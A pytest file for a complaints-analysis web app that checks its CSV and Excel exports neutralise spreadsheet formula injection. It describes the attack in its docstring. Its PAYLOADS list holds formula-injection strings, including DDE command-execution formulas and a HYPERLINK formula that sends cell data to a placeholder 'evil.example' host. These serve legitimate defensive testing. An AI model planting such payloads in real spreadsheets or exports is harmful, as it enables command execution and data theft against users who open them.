"""Issue 13 §2: every download goes through the app, and no cell from data is a formula.

The attack: as ``jinxiang_sq1`` on 诉求分析 → 诉求明细 the grid toolbar's "Download
as CSV" wrote ``=cmd|'/Ccalc'!A0`` and ``=HYPERLINK(…)`` from complaint text
unescaped, and no export row reached the audit log. The grid download is now
off (``client.disableDataExport``, tests/test_streamlit_config.py); the app's own
exports neutralise formula starters through ``data.exporters.neutralise``.
"""
from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from data import auth, db
from data.exporters import is_formula_like, neutralise, to_csv_bytes, to_xlsx_bytes
from data.schema import Complaint, Compound
from tests import apptest

PAYLOADS = [
    "=cmd|'/Ccalc'!A0",
    '=HYPERLINK("http://evil.example/x?"&A1,"点我查看")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_neutralise_every_formula_starter(text):
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert neutralise(text, csv=False) == text  # Excel: kept, but as a quote-prefixed text cell


@pytest.mark.parametrize("text", ["普通诉求", "1+1", "电话 138****1234", "a=b", "", "'=already"])
def test_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text)
    assert neutralise(text) == text


def test_csv_export_neutralises_every_cell():
    frame = pd.DataFrame({"内容": PAYLOADS, "=列": ["x"] * len(PAYLOADS), "数": range(len(PAYLOADS))})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[0][:2] == ["内容", "'=列"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [r[2] for r in rows[1:]] == [str(i) for i in range(len(PAYLOADS))]  # numbers untouched


def test_xlsx_export_keeps_every_payload_as_text():
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(pd.DataFrame({"内容": PAYLOADS}))))
    cells = [row[0] for row in wb.active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == PAYLOADS
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.fixture
def hostile_complaints(page_demo, monkeypatch):
    """The demo with the community user's newest complaint carrying the payloads (text and address)."""
    url = page_demo("hostile_exports")
    monkeypatch.setenv("DATABASE_URL", url)
    engine = db.make_engine(url)
    community = auth.get_account(engine, "jinxiang_sq1").scope.community_id
    with Session(engine) as s, s.begin():
        newest = s.scalars(select(Complaint.id).join(Compound, Compound.id == Complaint.compound_id)
                           .where(Compound.community_id == community)
                           .order_by(Complaint.received_at.desc()).limit(1)).all()
        s.execute(update(Complaint).where(Complaint.id == newest[0])
                  .values(content=PAYLOADS[0], address=PAYLOADS[1]))
    engine.dispose()
    return url


def test_complaint_export_on_the_page_is_neutralised(hostile_complaints, media):
    at = apptest.open_page("pages/complaints.py", user="jinxiang_sq1", timeout=180)
    grid = [f.value for f in at.dataframe]
    assert any(PAYLOADS[0] in set(df.get("诉求内容", pd.Series(dtype=object))) for df in grid), \
        "the payload reaches the records table (else the test proves nothing)"
    found = 0
    for name, data in apptest.downloads(at, media).items():
        if not name.startswith("下载 Excel"):
            continue
        wb = openpyxl.load_workbook(io.BytesIO(data))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and is_formula_like(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate, cell.value)
                        found += cell.value in PAYLOADS
    assert found >= 2
